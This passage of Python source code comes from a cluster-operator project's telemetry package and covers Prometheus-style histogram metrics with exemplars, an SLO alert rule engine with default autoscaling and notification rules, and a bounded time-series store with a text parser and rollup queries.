            self.max = max(self.max, value)
            if trace_id:
                if self.exemplars is None:
                    self.exemplars = [None] * (len(self.bounds) + 1)
                self.exemplars[i] = (str(trace_id), value)

    def exemplar_items(self) -> list:
        """Snapshot ``[(le_str, trace_id, value), ...]`` for buckets
        holding an exemplar (``le_str`` matches the exposed bucket
        label, ``+Inf`` for the overflow bucket)."""
        with self._lock:
            ex = list(self.exemplars) if self.exemplars else []
        out = []
        for i, item in enumerate(ex):
            if item is None:
                continue
            le = (format_value(self.bounds[i]) if i < len(self.bounds)
                  else "+Inf")
            out.append((le, item[0], item[1]))
        return out

    def quantile(self, q: float) -> float:
        """Estimated q-quantile by linear interpolation inside the
        bucket holding the q-th observation; exact-extreme clamped (the
        estimate never leaves [min, max]).  NaN when empty."""
        if not 0.0 <= q <= 1.0:
            raise ValueError("q must be in [0, 1]")
        with self._lock:
            if self.count == 0:
                return math.nan
            rank = q * self.count
            seen = 0.0
            lo = 0.0
            for i, c in enumerate(self.counts):
                hi = (self.bounds[i] if i < len(self.bounds) else self.max)
                if seen + c >= rank and c > 0:
                    frac = (rank - seen) / c
                    est = lo + (hi - lo) * frac
                    return min(max(est, self.min), self.max)
                seen += c
                lo = hi
            return self.max

    def samples(self, names, values):
        with self._lock:
            counts = list(self.counts)
            total, s = self.count, self.sum
        cum = 0
        for i, bound in enumerate(self.bounds):
            cum += counts[i]
            yield ("_bucket", names + ("le",),
                   values + (format_value(bound),), cum)
        yield "_bucket", names + ("le",), values + ("+Inf",), total
        yield "_sum", names, values, s
        yield "_count", names, values, total


class Histogram(_Metric):
    kind = "histogram"

    def __init__(self, name, help, label_names=(), buckets=None):
        bounds = tuple(buckets if buckets is not None else DEFAULT_BUCKETS)
        if list(bounds) != sorted(bounds) or len(set(bounds)) != len(bounds):
            raise ValueError("bucket bounds must be strictly increasing")
        self.bounds = bounds
        super().__init__(name, help, label_names)

    def _new_child(self):
        return _HistogramChild(self.bounds)

    def observe(self, value: float, trace_id: str | None = None):
        self._default().observe(value, trace_id=trace_id)

    def quantile(self, q: float) -> float:
        return self._default().quantile(q)

    @property
    def count(self):
        return self._default().count

    @property
    def max(self):
        return self._default().max

    def exemplars(self, **kv) -> list:
        """Exemplar snapshot of one child (the default child when no
        labels given): ``[(le_str, trace_id, value), ...]``."""
        child = self.labels(**kv) if kv else self._default()
        return child.exemplar_items()

    def expose(self) -> list:
        """Histogram exposition with OpenMetrics-style exemplars: a
        bucket that holds one gets ``  # {trace_id="..."} <value>``
        appended to its line.  ``parse_prometheus_text`` strips (and
        optionally collects) the trailing comment, so the collector's
        store keeps parsing every sample either way."""
        lines = [f"# HELP {self.name} {self.help}",
                 f"# TYPE {self.name} {self.kind}"]
        with self._lock:
            items = list(self._children.items())
        for key, child in items:
            ex = {le: (tid, val) for le, tid, val in child.exemplar_items()}
            for suffix, names, values, value in child.samples(
                    self.label_names, key):
                line = (f"{self.name}{suffix}"
                        f"{_label_suffix(names, values)} "
                        f"{format_value(value)}")
                if suffix == "_bucket" and values[-1] in ex:
                    tid, val = ex[values[-1]]
                    line += (f' # {{trace_id="{escape_label_value(tid)}"}}'
                             f" {format_value(val)}")
                lines.append(line)
        return lines


class MetricsRegistry:
    """Name -> metric family; get-or-create semantics so every wiring
    site can declare its instruments idempotently at import/first use."""

    def __init__(self):
        self._lock = threading.RLock()
        self._metrics: dict = {}

    def _get_or_create(self, cls, name, help, label_names, **kw):
        with self._lock:
            m = self._metrics.get(name)
            if m is not None:
                if type(m) is not cls or m.label_names != tuple(label_names):
                    raise ValueError(
                        f"metric {name} re-registered as {cls.__name__}"
                        f"{tuple(label_names)} but exists as "
                        f"{type(m).__name__}{m.label_names}")
                return m
            m = self._metrics[name] = cls(name, help, label_names, **kw)
            return m

    def counter(self, name, help="", label_names=()) -> Counter:
        return self._get_or_create(Counter, name, help, label_names)

    def gauge(self, name, help="", label_names=()) -> Gauge:
        return self._get_or_create(Gauge, name, help, label_names)

    def histogram(self, name, help="", label_names=(),
                  buckets=None) -> Histogram:
        with self._lock:
            m = self._metrics.get(name)
            if m is not None:
                if type(m) is not Histogram or m.label_names != tuple(label_names):
                    raise ValueError(
                        f"metric {name} re-registered as Histogram"
                        f"{tuple(label_names)} but exists as "
                        f"{type(m).__name__}{m.label_names}")
                return m
            m = self._metrics[name] = Histogram(name, help, label_names,
                                                buckets=buckets)
            return m

    def get(self, name):
        with self._lock:
            return self._metrics.get(name)

    def unregister(self, name):
        with self._lock:
            self._metrics.pop(name, None)

    def reset(self):
        """Drop every family (tests; the process registry is otherwise
        append-only)."""
        with self._lock:
            self._metrics.clear()

    def to_prometheus(self) -> str:
        with self._lock:
            families = sorted(self._metrics.items())
        lines = []
        for _, metric in families:
            lines.extend(metric.expose())
        return "\n".join(lines) + ("\n" if lines else "")


# The process-wide registry both planes' endpoints serve.
REGISTRY = MetricsRegistry()


def get_registry() -> MetricsRegistry:
    return REGISTRY
