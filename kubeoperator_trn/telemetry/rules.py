"""Declarative SLO / alert rule engine over the series store (ISSUE 8).

Rules are plain dicts — no YAML, no expression language — evaluated
against :meth:`SeriesStore.query` rollups every scrape pass (the
collector calls :meth:`RuleEngine.evaluate` as a post-scrape hook):

    {"name": "infer-ttft-p95-high",
     "expr": {"metric": "ko_work_infer_ttft_seconds", "op": "p95",
              "window_s": 30, "match": {"job": "serve"}},
     "above": 0.5,            # or "below": — exactly one
     "for_s": 20,             # sustain before firing (Prometheus `for:`)
     "severity": "warning",
     "route": ["notify", "autoscale"],  # consumers: notify|doctor|autoscale
     "scale": "up",           # autoscale hint (only on autoscale routes)
     "pool": "prefill",       # optional: scope the move to one serving
                              # pool role (ISSUE 15); absent = fleet-wide
     "labels": {},            # e.g. {"node": ...} for doctor-routed rules
     "gate": {...}}           # optional guard condition (ISSUE 19): same
                              # expr/above|below shape; while it does NOT
                              # hold, the route named in gate["route"] is
                              # suppressed (alert still fires elsewhere),
                              # or — with no gate route — the whole rule
                              # is held inactive.  A None gate rollup
                              # passes by default ("when_missing":
                              # "block" inverts that, for rules that
                              # should stay quiet until their subsystem
                              # reports at all).

State machine per rule: inactive -> pending (condition true, waiting
out ``for_s``) -> firing -> resolved -> inactive.  A ``None`` rollup
(no fresh data) counts as condition-unknown and drops the rule back to
inactive rather than firing on missing data.  Transitions to/from
firing emit ``alert.fired`` / ``alert.resolved`` notifications and
journal rows; the doctor and autoscaler read :meth:`alerts` /
:meth:`active` directly.
"""

import os
import threading
import time

from kubeoperator_trn.telemetry.metrics import get_registry

__all__ = ["RuleEngine", "default_rules"]

STATE_INACTIVE = "inactive"
STATE_PENDING = "pending"
STATE_FIRING = "firing"
STATE_RESOLVED = "resolved"


def _env_f(name: str, default: float) -> float:
    raw = os.environ.get(name, "")
    try:
        return float(raw) if raw else default
    except ValueError:
        return default


def default_rules() -> list:
    """The stock SLO set wired at server boot: serve-plane latency and
    KV pressure drive the autoscaler; sustained checkpoint fallbacks
    route to the doctor (ISSUE 7's restore-fallback counter is the
    canary for a sick checkpoint plane)."""
    ttft = _env_f("KO_OBS_TTFT_P95_S", 0.5)
    occ_hi = _env_f("KO_OBS_KV_OCC", 0.85)
    occ_lo = _env_f("KO_OBS_KV_OCC_LOW", 0.25)
    for_s = _env_f("KO_OBS_FOR_S", 15.0)
    return [
        {"name": "infer-ttft-p95-high",
         "expr": {"metric": "ko_work_infer_ttft_seconds", "op": "p95",
                  "window_s": max(30.0, 2 * for_s)},
         "above": ttft, "for_s": for_s, "severity": "warning",
         "route": ["notify", "autoscale", "doctor"], "scale": "up",
         # TTFT pressure means admission is starved of decode slots —
         # under disagg, grow the decode pool (mixed apps still match:
         # pool scoping is a filter, not a requirement)
         "pool": "decode"},
        # Disaggregated pools (ISSUE 15): size each pool on its own
        # signal — prefill on queue depth, decode on ITL pressure.
        {"name": "infer-prefill-queue-high",
         "expr": {"metric": "ko_work_infer_role_queue_depth", "op": "max",
                  "window_s": max(30.0, 2 * for_s),
                  "match": {"role": "prefill"}},
         "above": _env_f("KO_OBS_PREFILL_QUEUE", 8.0), "for_s": for_s,
         "severity": "warning",
         "route": ["notify", "autoscale"], "scale": "up",
         "pool": "prefill"},
        # TTFT split (ISSUE 18): the compute component isolates prefill
        # saturation from admission backlog — a high p95 here means the
        # chunks themselves are slow (kernel-bound replicas), so grow
        # the prefill pool even when the queue-depth rule is quiet.
        {"name": "infer-prefill-compute-p95-high",
         "expr": {"metric": "ko_work_infer_ttft_prefill_seconds",
                  "op": "p95", "window_s": max(30.0, 2 * for_s)},
         "above": _env_f("KO_OBS_PREFILL_COMPUTE_S", 0.35), "for_s": for_s,
         "severity": "warning",
         "route": ["notify", "autoscale"], "scale": "up",
         "pool": "prefill"},
        {"name": "infer-decode-itl-p95-high",
         "expr": {"metric": "ko_work_infer_role_itl_p95_ms", "op": "max",
                  "window_s": max(30.0, 2 * for_s),
                  "match": {"role": "decode"}},
         "above": _env_f("KO_OBS_DECODE_ITL_MS", 250.0), "for_s": for_s,
         "severity": "warning",
         "route": ["notify", "autoscale"], "scale": "up",
         # ROADMAP item 2: high ITL with *collapsed speculative
         # acceptance* is a draft-quality incident, not a capacity
         # shortfall — adding decode replicas would burn capacity on
         # the same mispredicting draft.  The gate suppresses only the
         # autoscale route (the alert still notifies); fleets without
         # specdec report no acceptance series and pass by default.
         "gate": {"expr": {"metric": "ko_work_infer_spec_accept_ewma",
                           "op": "avg", "window_s": max(30.0, 2 * for_s)},
                  "above": _env_f("KO_OBS_SPEC_ACCEPT_MIN", 0.35),
                  "route": "autoscale"},
         "pool": "decode"},
        {"name": "infer-spec-accept-low",
         "expr": {"metric": "ko_work_infer_spec_accept_ewma", "op": "avg",
                  "window_s": max(30.0, 2 * for_s)},
         "below": _env_f("KO_OBS_SPEC_ACCEPT_MIN", 0.35), "for_s": for_s,
         "severity": "warning", "route": ["notify"]},
        {"name": "infer-occupancy-high",
         "expr": {"metric": "ko_work_infer_batch_occupancy_ratio",
                  "op": "max", "window_s": max(30.0, 2 * for_s)},
         "above": occ_hi, "for_s": for_s, "severity": "warning",
         "route": ["notify", "autoscale"], "scale": "up"},
        {"name": "infer-underutilized",
         "expr": {"metric": "ko_work_infer_batch_occupancy_ratio",
                  "op": "max", "window_s": max(30.0, 2 * for_s)},
         "below": occ_lo, "for_s": 4 * for_s, "severity": "info",
         "route": ["autoscale"], "scale": "down"},
        {"name": "train-ckpt-fallbacks",
         "expr": {"metric": "ko_work_train_checkpoint_fallbacks_total",
                  "op": "rate", "window_s": max(60.0, 4 * for_s)},
         "above": 0.0, "for_s": for_s, "severity": "error",
         "route": ["notify", "doctor"]},
        # Gateway-sourced fleet signals (ISSUE 11): the gateway's
        # aggregate view is a better autoscale input than any single
        # replica's — sustained shedding means the whole fleet is out
        # of capacity, and an open breaker means a replica the doctor
        # should look at.
        {"name": "gw-shed-rate-high",
         "expr": {"metric": "ko_ops_gw_shed_total", "op": "rate",
                  "window_s": max(30.0, 2 * for_s)},
         "above": _env_f("KO_OBS_GW_SHED_RATE", 0.0), "for_s": for_s,
         "severity": "warning",
         "route": ["notify", "autoscale"], "scale": "up"},
        {"name": "gw-breaker-open",
         "expr": {"metric": "ko_ops_gw_breakers_open", "op": "max",
                  "window_s": max(30.0, 2 * for_s)},
         "above": 0.0, "for_s": for_s, "severity": "warning",
         "route": ["notify", "doctor"]},
        # Durable queue (ISSUE 12): a ready task aging past
        # KO_OBS_QUEUE_AGE_S means the control plane is starved —
        # workers wedged, quota too tight, or the engine is down.
        {"name": "taskengine-queue-age-high",
         "expr": {"metric": "ko_ops_taskengine_queue_age_seconds",
                  "op": "max", "window_s": max(30.0, 2 * for_s)},
         "above": _env_f("KO_OBS_QUEUE_AGE_S", 120.0), "for_s": for_s,
         "severity": "warning", "route": ["notify"]},
        # MoE router health (ROADMAP item 6 slice, ISSUE 19): hot
        # experts and a collapsing router distribution are incidents —
        # they show up as loss-curve damage long after the routing went
        # bad.  ``imbalance`` is max/mean of the per-expert load gauges
        # (uniform routing = 1.0).  Entropy is gated on expert-load
        # data actually flowing: the entropy gauge is registered (0.0)
        # even on dense runs, so without the gate the collapse rule
        # would fire on every non-MoE training job.
        {"name": "train-moe-expert-imbalance",
         "expr": {"metric": "ko_work_train_moe_expert_load",
                  "op": "imbalance", "window_s": max(60.0, 4 * for_s)},
         "above": _env_f("KO_OBS_MOE_IMBALANCE", 4.0), "for_s": for_s,
         "severity": "warning", "route": ["notify"]},
        {"name": "train-moe-router-entropy-low",
         "expr": {"metric": "ko_work_train_moe_router_entropy",
                  "op": "avg", "window_s": max(60.0, 4 * for_s)},
         "below": _env_f("KO_OBS_MOE_ENTROPY_MIN", 0.2), "for_s": for_s,
         "severity": "warning", "route": ["notify"],
         "gate": {"expr": {"metric": "ko_work_train_moe_expert_load",
                           "op": "sum", "window_s": max(60.0, 4 * for_s)},
                  "above": 0.0, "when_missing": "block"}},
    ]


class RuleEngine:
    """Evaluate dict rules against the store; track alert lifecycles."""

    def __init__(self, store, rules: list | None = None, notifier=None,
                 journal=None, now_fn=time.time, registry=None):
        self.store = store
        self.notifier = notifier
        self.journal = journal
        self.now_fn = now_fn
        self._lock = threading.Lock()
        self._rules: dict = {}
        self._state: dict = {}
        for rule in (rules if rules is not None else default_rules()):
            self.add_rule(rule)
        r = registry if registry is not None else get_registry()
        self._m_evals = r.counter(
            "ko_ops_obs_rule_evals_total", "Rule evaluations")
        self._m_firing = r.gauge(
            "ko_ops_obs_alerts_firing", "Alerts currently firing")
        self._m_transitions = r.counter(
            "ko_ops_obs_alert_transitions_total",
            "Alert state transitions", ("to",))

    def add_rule(self, rule: dict):
        if "name" not in rule or "expr" not in rule:
            raise ValueError("rule needs name and expr")
        if ("above" in rule) == ("below" in rule):
            raise ValueError(f"rule {rule['name']!r}: exactly one of "
                             "above/below required")
        gate = rule.get("gate")
        if gate is not None:
            if "expr" not in gate or ("above" in gate) == ("below" in gate):
                raise ValueError(f"rule {rule['name']!r}: gate needs expr "
                                 "and exactly one of above/below")
        with self._lock:
            self._rules[rule["name"]] = dict(rule)
            self._state.setdefault(rule["name"], {
                "state": STATE_INACTIVE, "since": None, "fired_ts": None,
                "resolved_ts": None, "value": None, "gated_route": None})

    def remove_rule(self, name: str) -> bool:
        with self._lock:
            self._state.pop(name, None)
            return self._rules.pop(name, None) is not None

    # ------------------------------------------------------- evaluation

    def _condition(self, rule: dict):
        expr = rule["expr"]
        value = self.store.query(
            expr["metric"], op=expr.get("op", "latest"),
            window_s=expr.get("window_s", 60.0),
            match=expr.get("match"), q=expr.get("q", 0.95))
        if value is None:
            return None, None
        if "above" in rule:
            return value > rule["above"], value
        return value < rule["below"], value

    def _gate_ok(self, gate: dict) -> bool:
        """Does the gate condition hold?  A None rollup (no data) passes
        unless the gate says ``"when_missing": "block"``."""
        cond, _ = self._condition(gate)
        if cond is None:
            return gate.get("when_missing", "pass") != "block"
        return bool(cond)

    def _exemplar(self, rule: dict):
        """Newest exemplar for the rule's metric — the concrete trace
        behind the number that fired (ISSUE 19)."""
        fn = getattr(self.store, "exemplars", None)
        if fn is None:
            return None
        try:
            ex = fn(rule["expr"]["metric"],
                    match=rule["expr"].get("match"))
        except Exception:  # noqa: BLE001 — linking is best-effort
            return None
        if not ex:
            return None
        return {"trace_id": ex[0]["trace_id"], "value": ex[0]["value"]}

    def evaluate(self, now: float | None = None) -> list:
        """One evaluation pass; returns transitions as
        ``[(name, old_state, new_state), ...]``."""
        now = self.now_fn() if now is None else now
        transitions = []
        with self._lock:
            rules = list(self._rules.values())
        for rule in rules:
            self._m_evals.inc()
            cond, value = self._condition(rule)
            gate, gated_route = rule.get("gate"), None
            if gate is not None and not self._gate_ok(gate):
                if gate.get("route"):
                    gated_route = gate["route"]
                else:
                    cond = None  # whole rule held while the gate fails
            name = rule["name"]
            with self._lock:
                st = self._state[name]
                old = st["state"]
                st["value"] = value
                st["gated_route"] = gated_route
                if cond:
                    if old in (STATE_INACTIVE, STATE_RESOLVED):
                        st["state"] = STATE_PENDING
                        st["since"] = now
                    elif old == STATE_PENDING and \
                            now - st["since"] >= rule.get("for_s", 0):
                        st["state"] = STATE_FIRING
                        st["fired_ts"] = now
                else:
                    # condition false OR unknown (no fresh data): a
                    # firing alert resolves, a pending one abandons.
                    if old == STATE_FIRING:
                        st["state"] = STATE_RESOLVED
                        st["resolved_ts"] = now
                    elif old in (STATE_PENDING, STATE_RESOLVED):
                        st["state"] = STATE_INACTIVE
                        st["since"] = None
                new = st["state"]
            if new != old:
                transitions.append((name, old, new))
                self._m_transitions.labels(to=new).inc()
                if new == STATE_FIRING:
                    self._announce(rule, value, fired=True)
                elif old == STATE_FIRING:
                    self._announce(rule, value, fired=False)
        with self._lock:
            firing = sum(1 for s in self._state.values()
                         if s["state"] == STATE_FIRING)
        self._m_firing.set(firing)
        return transitions

    def _announce(self, rule: dict, value, fired: bool):
        # local import: telemetry must stay importable without the
        # cluster plane (workload processes only need store/tracer).
        from kubeoperator_trn.cluster import events as E
        from kubeoperator_trn.cluster import notify as N
        name = rule["name"]
        verb = "firing" if fired else "resolved"
        payload = {"alert": name, "state": verb, "value": value,
                   "threshold": rule.get("above", rule.get("below")),
                   "severity": rule.get("severity", "warning"),
                   "labels": rule.get("labels", {})}
        if fired:
            ex = self._exemplar(rule)
            if ex is not None:
                payload["exemplar"] = ex
        if self.notifier is not None and "notify" in rule.get("route", []):
            try:
                self.notifier.notify(
                    N.EVENT_ALERT_FIRED if fired else N.EVENT_ALERT_RESOLVED,
                    payload)
            except Exception:  # noqa: BLE001 — best-effort by design
                pass
        if self.journal is not None:
            try:
                self.journal.record(
                    rule.get("severity", "warning") if fired else E.SEV_INFO,
                    E.KIND_ALERT_FIRED if fired else E.KIND_ALERT_RESOLVED,
                    f"alert {name} {verb} (value={value})",
                    node=rule.get("labels", {}).get("node", ""),
                    cause=f"{rule['expr'].get('metric')} "
                          f"{'>' if 'above' in rule else '<'} "
                          f"{rule.get('above', rule.get('below'))}")
            except Exception:  # noqa: BLE001
                pass

    # ------------------------------------------------------------ reads

    def alerts(self, route: str | None = None) -> list:
        """Full state of every rule (optionally filtered by route).
        A route currently suppressed by the rule's gate is excluded
        from the effective route list, so e.g. the autoscaler never
        sees an ITL alert whose acceptance gate failed."""
        out = []
        with self._lock:
            items = [(name, rule, dict(self._state[name]))
                     for name, rule in self._rules.items()]
        for name, rule, st in items:
            gated = st.get("gated_route")
            routes = [r for r in rule.get("route", []) if r != gated]
            if route is not None and route not in routes:
                continue
            row = {
                "name": name, "state": st["state"], "value": st["value"],
                "since": st["since"], "fired_ts": st["fired_ts"],
                "resolved_ts": st["resolved_ts"],
                "severity": rule.get("severity", "warning"),
                "route": routes,
                "gated_route": gated,
                "scale": rule.get("scale"),
                "pool": rule.get("pool"),
                "labels": dict(rule.get("labels", {})),
                "expr": dict(rule["expr"]),
                "threshold": rule.get("above", rule.get("below")),
                "direction": "above" if "above" in rule else "below",
            }
            if st["state"] == STATE_FIRING:
                ex = self._exemplar(rule)
                if ex is not None:
                    row["exemplar"] = ex
            out.append(row)
        return out

    def active(self, route: str | None = None) -> list:
        """Only the firing alerts — what the doctor/autoscaler consume."""
        return [a for a in self.alerts(route=route)
                if a["state"] == STATE_FIRING]
