"""Bounded in-memory time-series store + Prometheus text parser (ISSUE 8).

The collector scrapes every registered ``/metrics`` endpoint, parses the
exposition text back into samples with :func:`parse_prometheus_text`,
and appends them here.  Each series — one (metric name, label set) pair
— is a ring of ``(ts, value)`` points bounded both by count
(``max_points``) and by age (``retention_s``), so the store's footprint
is fixed no matter how long the process runs.

On top of the raw rings, :meth:`SeriesStore.query` provides the cluster
rollups the rule engine and autoscaler consume:

* ``latest`` / ``sum`` / ``avg`` / ``min`` / ``max`` — across the most
  recent point of every matching series inside the window (a series
  whose newest point is older than the window is stale and excluded);
* ``rate`` — per-second increase of a counter over the window, summed
  across series, clamped at counter resets;
* ``p95`` (any ``q``) — a histogram quantile computed across replicas
  by summing the per-``le`` bucket *increments* over the window, so a
  quiet replica doesn't drag the fleet quantile with hours-old counts.

Everything is stdlib-only and lock-guarded: scrape thread writes,
rule/autoscaler/API threads read.
"""

import bisect
import re
import threading
import time
from collections import deque

__all__ = ["parse_prometheus_text", "SeriesStore"]

#: ``name{labels} value [ts]`` — the subset of the exposition format our
#: own ``MetricsRegistry.to_prometheus`` emits (no timestamps;
#: OpenMetrics-style exemplar comments are split off by ``_EXEMPLAR``
#: before this matches), which is all the collector ever scrapes.
_LINE = re.compile(
    r"^(?P<name>[a-zA-Z_:][a-zA-Z0-9_:]*)"
    r"(?:\{(?P<labels>.*)\})?"
    r"\s+(?P<value>[^\s]+)"
    r"(?:\s+(?P<ts>[0-9.+-eE]+))?\s*$")

#: Trailing OpenMetrics exemplar: `` # {trace_id="..."} <value> [ts]``.
_EXEMPLAR = re.compile(
    r"\s+#\s*\{(?P<exlabels>[^}]*)\}"
    r"\s+(?P<exvalue>[^\s]+)"
    r"(?:\s+[0-9.+-eE]+)?\s*$")

_LABEL = re.compile(r'(?P<k>[a-zA-Z_][a-zA-Z0-9_]*)="(?P<v>(?:\\.|[^"\\])*)"')

_UNESCAPE = {"\\\\": "\\", '\\"': '"', "\\n": "\n"}


def _unescape(v: str) -> str:
    out, i = [], 0
    while i < len(v):
        pair = v[i:i + 2]
        if pair in _UNESCAPE:
            out.append(_UNESCAPE[pair])
            i += 2
        else:
            out.append(v[i])
            i += 1
    return "".join(out)


def parse_prometheus_text(text: str, exemplars: list | None = None) -> list:
    """Parse exposition text into ``[(name, labels_dict, value), ...]``.

    Comment/HELP/TYPE lines and malformed lines are skipped — a scrape
    of a half-written response yields the parseable prefix rather than
    an exception.  A sample line may carry a trailing OpenMetrics-style
    exemplar comment (`` # {trace_id="..."} <value>``); it is stripped
    before parsing, and when the caller passes an ``exemplars`` list,
    each one is appended to it as
    ``(name, labels_dict, {"trace_id": ..., "value": ...})``.
    """
    samples = []
    for line in text.splitlines():
        line = line.strip()
        if not line:
            continue
        ex = None
        em = _EXEMPLAR.search(line)
        if em and not line.startswith("#"):
            line = line[:em.start()]
            if exemplars is not None:
                try:
                    ex_labels = {
                        lm.group("k"): _unescape(lm.group("v"))
                        for lm in _LABEL.finditer(em.group("exlabels"))}
                    ex = {"trace_id": ex_labels.get("trace_id", ""),
                          "value": float(em.group("exvalue"))}
                except ValueError:
                    ex = None
        if line.startswith("#"):
            continue
        m = _LINE.match(line)
        if not m:
            continue
        try:
            value = float(m.group("value"))
        except ValueError:
            continue
        labels = {}
        if m.group("labels"):
            for lm in _LABEL.finditer(m.group("labels")):
                labels[lm.group("k")] = _unescape(lm.group("v"))
        samples.append((m.group("name"), labels, value))
        if ex is not None and ex["trace_id"] and exemplars is not None:
            exemplars.append((m.group("name"), labels, ex))
    return samples


def _key(name: str, labels: dict) -> tuple:
    return (name, tuple(sorted(labels.items())))


def _quantile_from_buckets(buckets: dict, q: float):
    """Linear-interpolated quantile from cumulative ``{le: count}`` —
    the same estimator as ``Histogram.quantile`` but across targets."""
    les = sorted(buckets, key=lambda le: float("inf") if le == "+Inf"
                 else float(le))
    counts = [buckets[le] for le in les]
    total = counts[-1] if counts else 0.0
    if total <= 0:
        return None
    target = q * total
    idx = bisect.bisect_left(counts, target)
    if idx >= len(les):
        idx = len(les) - 1
    le = les[idx]
    if le == "+Inf":
        # everything above the last finite bound — clamp to it
        finite = [b for b in les if b != "+Inf"]
        return float(finite[-1]) if finite else None
    hi = float(le)
    lo = float(les[idx - 1]) if idx > 0 else 0.0
    c_hi = counts[idx]
    c_lo = counts[idx - 1] if idx > 0 else 0.0
    if c_hi <= c_lo:
        return hi
    return lo + (hi - lo) * (target - c_lo) / (c_hi - c_lo)


class SeriesStore:
    """Ring-per-series store with retention and cluster rollups."""

    def __init__(self, retention_s: float = 900.0, max_points: int = 512,
                 now_fn=time.time):
        self.retention_s = float(retention_s)
        self.max_points = int(max_points)
        self.now_fn = now_fn
        self._lock = threading.Lock()
        #: key -> {"name", "labels", "points": deque[(ts, value)]}
        self._series: dict = {}
        #: key -> {"name", "labels", "trace_id", "value", "ts"} — last
        #: exemplar per (metric, label set); bounded like series and
        #: pruned on the same retention horizon (ISSUE 19).
        self._exemplars: dict = {}

    # ------------------------------------------------------------ write

    def append(self, name: str, labels: dict, value: float,
               ts: float | None = None):
        ts = self.now_fn() if ts is None else ts
        key = _key(name, labels)
        with self._lock:
            ser = self._series.get(key)
            if ser is None:
                ser = {"name": name, "labels": dict(labels),
                       "points": deque(maxlen=self.max_points)}
                self._series[key] = ser
            ser["points"].append((ts, float(value)))

    def ingest(self, samples: list, extra_labels: dict | None = None,
               ts: float | None = None) -> int:
        """Append a parsed scrape (``extra_labels`` — e.g. the target
        name — are merged into every sample's label set).  Returns the
        number of samples stored."""
        ts = self.now_fn() if ts is None else ts
        extra = extra_labels or {}
        for name, labels, value in samples:
            self.append(name, {**labels, **extra}, value, ts=ts)
        return len(samples)

    def record_exemplar(self, name: str, labels: dict, trace_id: str,
                        value: float, ts: float | None = None):
        """Keep the newest exemplar for one (metric, label set)."""
        ts = self.now_fn() if ts is None else ts
        with self._lock:
            self._exemplars[_key(name, labels)] = {
                "name": name, "labels": dict(labels),
                "trace_id": str(trace_id), "value": float(value),
                "ts": ts}

    def ingest_exemplars(self, exemplars: list,
                         extra_labels: dict | None = None,
                         ts: float | None = None) -> int:
        """Store a scrape's exemplars (the list ``parse_prometheus_text``
        fills): ``[(name, labels, {"trace_id", "value"}), ...]``."""
        ts = self.now_fn() if ts is None else ts
        extra = extra_labels or {}
        for name, labels, ex in exemplars:
            self.record_exemplar(name, {**labels, **extra},
                                 ex["trace_id"], ex["value"], ts=ts)
        return len(exemplars)

    def exemplars(self, metric: str, match: dict | None = None,
                  max_age_s: float | None = None) -> list:
        """Exemplars for ``metric`` (histogram base name — its
        ``_bucket`` series are included, with the ``le`` label ignored
        during matching), newest first."""
        match = match or {}
        now = self.now_fn()
        out = []
        with self._lock:
            for ex in self._exemplars.values():
                if ex["name"] not in (metric, metric + "_bucket"):
                    continue
                labels = {k: v for k, v in ex["labels"].items()
                          if k != "le"}
                if any(labels.get(k) != v for k, v in match.items()):
                    continue
                if max_age_s is not None and now - ex["ts"] > max_age_s:
                    continue
                out.append({"labels": dict(ex["labels"]),
                            "trace_id": ex["trace_id"],
                            "value": ex["value"],
                            "ts": round(ex["ts"], 3)})
        out.sort(key=lambda e: e["ts"], reverse=True)
        return out

    def prune(self, now: float | None = None) -> int:
        """Drop points older than retention and series gone fully empty.
        Returns the number of series dropped."""
        now = self.now_fn() if now is None else now
        horizon = now - self.retention_s
        dropped = 0
        with self._lock:
            for key in list(self._series):
                pts = self._series[key]["points"]
                while pts and pts[0][0] < horizon:
                    pts.popleft()
                if not pts:
                    del self._series[key]
                    dropped += 1
            for key in list(self._exemplars):
                if self._exemplars[key]["ts"] < horizon:
                    del self._exemplars[key]
        return dropped

    # ------------------------------------------------------------- read

    def _matching(self, metric: str, match: dict | None):
        match = match or {}
        out = []
        for ser in self._series.values():
            if ser["name"] != metric:
                continue
            if any(ser["labels"].get(k) != v for k, v in match.items()):
                continue
            out.append(ser)
        return out

    def series_count(self) -> int:
        with self._lock:
            return len(self._series)

    def latest(self, metric: str, match: dict | None = None,
               max_age_s: float | None = None) -> list:
        """Newest point of every matching series:
        ``[{"labels", "ts", "value"}, ...]`` (stale series excluded when
        ``max_age_s`` is given)."""
        now = self.now_fn()
        out = []
        with self._lock:
            for ser in self._matching(metric, match):
                if not ser["points"]:
                    continue
                ts, value = ser["points"][-1]
                if max_age_s is not None and now - ts > max_age_s:
                    continue
                out.append({"labels": dict(ser["labels"]), "ts": ts,
                            "value": value})
        return out

    def dump_latest(self, max_age_s: float | None = None) -> list:
        """Every series' newest point — the flight recorder's snapshot."""
        now = self.now_fn()
        out = []
        with self._lock:
            for ser in self._series.values():
                if not ser["points"]:
                    continue
                ts, value = ser["points"][-1]
                if max_age_s is not None and now - ts > max_age_s:
                    continue
                out.append({"name": ser["name"],
                            "labels": dict(ser["labels"]),
                            "ts": round(ts, 3), "value": value})
        out.sort(key=lambda s: (s["name"], sorted(s["labels"].items())))
        return out

    def _window_points(self, ser: dict, since: float) -> list:
        return [(ts, v) for ts, v in ser["points"] if ts >= since]

    @staticmethod
    def _series_rate(points: list) -> float | None:
        """Per-second increase over a window of counter samples, summing
        across resets (value drop => new epoch starting at 0)."""
        if len(points) < 2:
            return None
        increase = 0.0
        for (_, prev), (_, cur) in zip(points, points[1:]):
            increase += cur - prev if cur >= prev else cur
        dt = points[-1][0] - points[0][0]
        if dt <= 0:
            return None
        return max(0.0, increase) / dt

    def query(self, metric: str, op: str = "latest", window_s: float = 60.0,
              match: dict | None = None, q: float = 0.95):
        """One rollup number across matching series, or None when no
        fresh data exists (callers treat None as "condition unknown").

        op: latest | sum | avg | min | max | rate | p95 | quantile |
        imbalance (``p95`` is ``quantile`` with q=0.95; ``q`` applies
        to both).  For quantiles ``metric`` is the histogram base name
        — buckets are read from ``<metric>_bucket``.  ``imbalance`` is
        the max/mean ratio of the freshest value across matching series
        (1.0 = perfectly balanced; the MoE router-health signal over
        per-expert load gauges).
        """
        now = self.now_fn()
        since = now - float(window_s)
        if op in ("p95", "quantile"):
            if op == "p95":
                q = 0.95
            return self._quantile(metric, since, match, q)
        if op not in ("latest", "sum", "avg", "min", "max", "rate",
                      "imbalance"):
            # validate before the data check: an unknown op is a caller
            # bug, not "condition unknown"
            raise ValueError(f"unknown rollup op {op!r}")
        with self._lock:
            series = self._matching(metric, match)
            if op == "rate":
                rates = [r for r in
                         (self._series_rate(self._window_points(s, since))
                          for s in series) if r is not None]
                return round(sum(rates), 6) if rates else None
            vals = []
